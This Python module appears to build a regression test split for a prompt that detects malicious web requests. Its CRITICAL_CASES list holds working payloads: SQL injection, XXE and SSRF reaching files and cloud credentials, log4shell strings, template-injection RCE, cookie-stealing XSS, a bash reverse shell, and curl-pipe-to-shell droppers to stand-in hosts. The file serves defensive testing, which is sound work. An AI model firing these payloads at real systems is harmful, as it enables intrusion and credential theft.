"""The ``regression`` split: historical artifacts with incident metadata.

Contract: every regression row carries ``meta.first_seen`` (ISO date in the 18 months before
``REFERENCE_DATE``; fixed, not today's date, so the output is reproducible), ``meta.critical``
(bool) and ``meta.incident`` (a short note: how the case was found). ``critical`` marks rare,
dangerous payloads that a promoted prompt must never miss: every hand-written case in
``CRITICAL_CASES`` and generated rows from the templates in ``CRITICAL_TEMPLATES`` (blind
time-based SQLi, XXE to files or metadata, cloud-metadata SSRF, log4shell-style lookups,
reverse shells / download-and-execute). Benign rows are past false-positive incidents and are
never critical.
"""

from __future__ import annotations

import datetime as dt
import random

from optimizer.tasks.corpus.common import pick

REFERENCE_DATE = dt.date(2026, 11, 30)
WINDOW_DAYS = 548  # ~18 months

CRITICAL_TEMPLATES: frozenset[tuple[str, str]] = frozenset({
    ("sqli", "time_blind"), ("sqli", "oob"), ("xxe", "file"), ("xxe", "ssrf"),
    ("ssrf", "cloud_metadata"), ("ssti", "jndi_lookup"), ("cmdi", "reverse_shell"),
    ("cmdi", "download_exec"),
})

CRITICAL_CASES: tuple[tuple[str, str, str], ...] = (
    ("1' AND (SELECT 4242 FROM (SELECT(SLEEP(7)))kYzD) AND 'QmRt'='QmRt", "sqli",
     "blind time-based SQLi found by scanner on /api/orders?sort="),
    ("1);WAITFOR DELAY '0:0:9'--", "sqli", "MSSQL time-based, exfiltrated schema for a week"),
    ("id=1%20AND%20(SELECT%201%20FROM%20PG_SLEEP(8))", "sqli", "encoded pg_sleep missed by v3"),
    ("'+(select*from(select(sleep(6)))a)+'", "sqli", "blind SQLi in X-Forwarded-For"),
    ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
     "xxe", "XXE file read in invoice upload"),
    ('<!DOCTYPE d [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/iam/'
     'security-credentials/">]><d>&m;</d>', "xxe", "XXE to cloud metadata in SAML endpoint"),
    ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a SYSTEM "http://attacker.test/d.dtd"><a/>',
     "xxe", "external DTD fetch from SOAP endpoint"),
    ("http://169.254.169.254/latest/meta-data/iam/security-credentials/web-prod", "ssrf",
     "SSRF in avatar_url leaked IAM keys"),
    ("http://[::ffff:169.254.169.254]/latest/api/token", "ssrf", "IPv6-mapped metadata bypass"),
    ("http://metadata.google.internal/computeMetadata/v1/?recursive=true&alt=json", "ssrf",
     "GCP metadata via webhook tester"),
    ("url=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data", "ssrf", "encoded metadata URL"),
    ("${jndi:ldap://x.oast.example/Basic/Command/Base64/aWQ=}", "ssti",
     "log4shell in User-Agent, Dec 2025 wave"),
    ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.test/x}", "ssti",
     "obfuscated log4shell in X-Api-Version"),
    ("{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "ssti",
     "Jinja2 RCE in email preview"),
    ("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(document.domain) )//%0D%0A%0d%0a//"
     "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(document.domain)//>\\x3e",
     "xss", "polyglot XSS in profile bio"),
    ("<svg><animate onbegin=fetch('//exfil.example.org/?'+document.cookie) attributeName=x dur=1s>",
     "xss", "stored XSS stealing session cookies"),
    ("\"><img src=x onerror=eval(atob('ZmV0Y2goJy8vZXZpbC5leGFtcGxlJyk='))>", "xss",
     "base64-staged XSS in search"),
    ("; bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'", "cmdi",
     "reverse shell via ping tool"),
    ("() { :;}; /bin/bash -c \"curl http://c2.badhost.test/x|sh\"", "cmdi",
     "shellshock in User-Agent of legacy CGI"),
    ("|curl${IFS}-s${IFS}http://198.51.100.23/m|sh", "cmdi", "IFS obfuscated dropper"),
    ("../../../../../../proc/self/environ", "path_traversal", "traversal leaked env secrets"),
    ("..%252f..%252f..%252f..%252froot%252f.ssh%252fid_rsa", "path_traversal",
     "double-encoded traversal to SSH key"),
    ('{"email": {"$regex": ".*"}, "password": {"$ne": ""}}', "nosqli",
     "login bypass on mobile API"),
    ("*)(|(memberOf=cn=Domain Admins,ou=Groups,dc=corp,dc=example))", "ldapi",
     "LDAP group enumeration in SSO"),
    ("%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html"
     "%0d%0a%0d%0a<script>alert(1)</script>", "crlf", "response splitting + XSS in redirect"),
)

_ATTACK_NOTES = ("missed by production prompt v{v}; reported by SOC", "bug bounty report #{n}",
                 "red-team exercise finding", "caught by WAF rule, added to suite after review",
                 "false negative after encoding change in v{v}", "seen in honeypot traffic",
                 "customer security review finding", "pentest report item {n}")
_BENIGN_NOTES = ("false positive: blocked a legitimate request in v{v}",
                 "customer complaint: checkout blocked", "false positive on support form",
                 "false positive on search, escalated by product team",
                 "blocked partner API call during onboarding")


def first_seen(rng: random.Random) -> str:
    return (REFERENCE_DATE - dt.timedelta(days=rng.randrange(WINDOW_DAYS))).isoformat()


def incident_note(rng: random.Random, label: str, day: str) -> str:
    notes = _BENIGN_NOTES if label == "benign" else _ATTACK_NOTES
    text = pick(rng, notes).format(v=rng.randint(1, 9), n=rng.randint(100, 9999))
    return f"INC-{day[:4]}-{rng.randint(1, 999):03d}: {text}"
